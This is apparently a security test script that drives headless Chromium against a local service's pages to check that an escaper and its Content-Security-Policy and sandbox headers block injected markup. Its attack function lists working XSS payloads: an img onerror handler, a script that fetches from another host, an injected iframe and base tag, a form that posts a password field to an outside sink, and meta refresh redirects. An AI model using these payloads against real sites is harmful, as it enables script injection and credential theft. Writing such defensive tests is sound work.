"""Attacks pages in headless Chromium with markup: through the escaper, and under the pages' policies without it.

Usage: pool_markup.py ENDPOINT DRIVER FOLDER GALLERY: a pool, the browser's driver, a folder, and a page of `messages` whose texts
attack it, with `SINK` in place of an address.
"""

import http.server
import pathlib
import sys
import threading
import time
import urllib.error
import urllib.parse
import urllib.request

import boto3

from browser import Browser

endpoint, driver, folder, gallery = sys.argv[1:5]
# U+0600 and the mark behind it are one character of Swift's.
JOIN = "\u0600"


class Site(http.server.BaseHTTPRequestHandler):
    """Serves copies of pages by their paths, with headers, and notes requests for other paths."""

    pages, seen = {}, []

    def do_GET(self):
        headers, body = self.pages.get(self.path, ([("Content-Type", "text/plain")], b""))
        if self.server is sink and self.path != "/favicon.ico":
            self.seen.append(self.path)
        self.send_response(200)
        for name, value in headers:
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_GET

    def log_message(self, *_):
        pass


def started():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Site)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server, f"http://127.0.0.1:{server.server_port}"


# The site to which the attacks lead, and one that serves copies of the pool's pages.
sink, there = started()
_, copies = started()


def attack(join, *, refreshes):
    """Markup that leaves for the other site by itself, or by a click."""
    parts = [f"{join}<img src={there}/image onerror=document.title='ran'>", f"{join}<script>document.title='ran';fetch('{there}/script')</script>",
             f"{join}<script src={there}/other></script>", f"{join}<iframe src={there}/frame></iframe>", f"{join}<link rel=stylesheet href={there}/style>",
             f"{join}<base href={there}/base/>", f"{join}<form action={there}/form method=post>{join}<input name=password>{join}<button id=go>{join}</form>"]
    return "".join(parts + [f"{join}<meta http-equiv=refresh content=0;url={there}/refresh>"] * refreshes)


def fetched(path, headers=None):
    try:
        reply = urllib.request.urlopen(urllib.request.Request(endpoint + path, headers=headers or {}), timeout=60)
    except urllib.error.HTTPError as error:
        reply = error
    return reply.headers, reply.read().decode()


def check(browser, address, words, has_markup):
    browser.post("url", {"url": address})
    browser.until(words, "return document.readyState === 'complete'")
    assert browser.run("return Boolean(document.getElementById('go'))") == has_markup, (words, browser.run("return document.body.outerHTML"))
    browser.run("document.getElementById('go')?.click()")
    time.sleep(1)
    assert browser.run("return location.href.split('?')[0]").startswith(address.split("?")[0]), (words, browser.run("return location.href"))
    assert browser.run("return document.title") != "ran", words
    assert not Site.seen, (words, Site.seen)


cognito = boto3.client("cognito-idp", endpoint_url=endpoint, region_name="eu-west-1", aws_access_key_id="x", aws_secret_access_key="x")
cognito.create_user_pool_domain(UserPoolId=cognito.create_user_pool(PoolName="people")["UserPool"]["Id"], Domain="people")

with Browser(driver, folder) as browser:
    # A control: without a policy, each part reaches the other site.
    Site.pages["/control"] = ([("Content-Type", "text/html; charset=utf-8")], attack("", refreshes=False).encode())
    browser.post("url", {"url": f"{copies}/control"})
    browser.until("the control", "return document.title === 'ran'")
    browser.run("document.getElementById('go').click()")
    for _ in range(100):
        if any("form" in path for path in Site.seen):
            break
        time.sleep(0.1)
    assert {"/image", "/script", "/other", "/frame", "/style", "/form"} <= set(Site.seen), Site.seen
    Site.seen.clear()

    # The escaper: a link to the pool shows a stranger's markup as text.
    for part in (f"{JOIN}<meta http-equiv=refresh content=0;url={there}/refresh>",
                 f"{JOIN}<form action={there}/form method=post>{JOIN}<input name=password>{JOIN}<button id=go>",
                 f"{JOIN}<img src={there}/image onerror=document.title='ran' id=go>"):
        query = urllib.parse.urlencode({"user_name": "a", "confirmation_code": "1", "client_id": part}, quote_via=urllib.parse.quote)
        check(browser, f"{endpoint}/confirmUser/?{query}", "the answer to a link", False)
        shown = browser.run("return document.body.innerText")
        assert part[1:10] in shown, ascii((part, shown))

    # The policies: the same headers over a page in which nothing is escaped.
    pages = {"/confirmUser/": True, "/feedback": True, "/error": False, "/_local/": False}
    for path, has_sandbox in pages.items():
        headers, body = fetched(path, {"Host": f"people.localhost:{urllib.parse.urlsplit(endpoint).port}"})
        copied = [(name, headers[name]) for name in ("Content-Type", "Content-Security-Policy", "Referrer-Policy", "X-Content-Type-Options") if headers[name]]
        assert "html" in headers["Content-Type"] and len(copied) == 4, (path, copied)
        Site.pages[f"/copy{path}"] = (copied, ("<!doctype html><title>copy</title>" + attack("", refreshes=has_sandbox)).encode())
        check(browser, f"{copies}/copy{path}", f"the policy of {path}", True)

    # The page of messages is opened from a disk, so its policy is in the file.
    page = pathlib.Path(gallery).read_text(encoding="utf-8").replace("SINK", there)
    escaped = pathlib.Path(folder, "escaped.html")
    escaped.write_text(page, encoding="utf-8")
    check(browser, escaped.as_uri(), "the page of messages", False)
    frames = browser.run("return [...document.querySelectorAll('iframe')].map((frame) => [...frame.attributes].map((one) => one.name).join())")
    assert frames and set(frames) == {"class,sandbox,title,srcdoc"}, frames
    browser.post("frame", {"id": browser.run("return document.querySelector('iframe')")})
    browser.until("the mail has its text", "return document.body?.innerText")
    browser.post("frame", {"id": None})
    raw = pathlib.Path(folder, "raw.html")
    raw.write_text(page.replace("<h1>", attack("", refreshes=False) + "<h1>"), encoding="utf-8")
    check(browser, raw.as_uri(), "the policy of the page of messages", True)
print("did nothing")
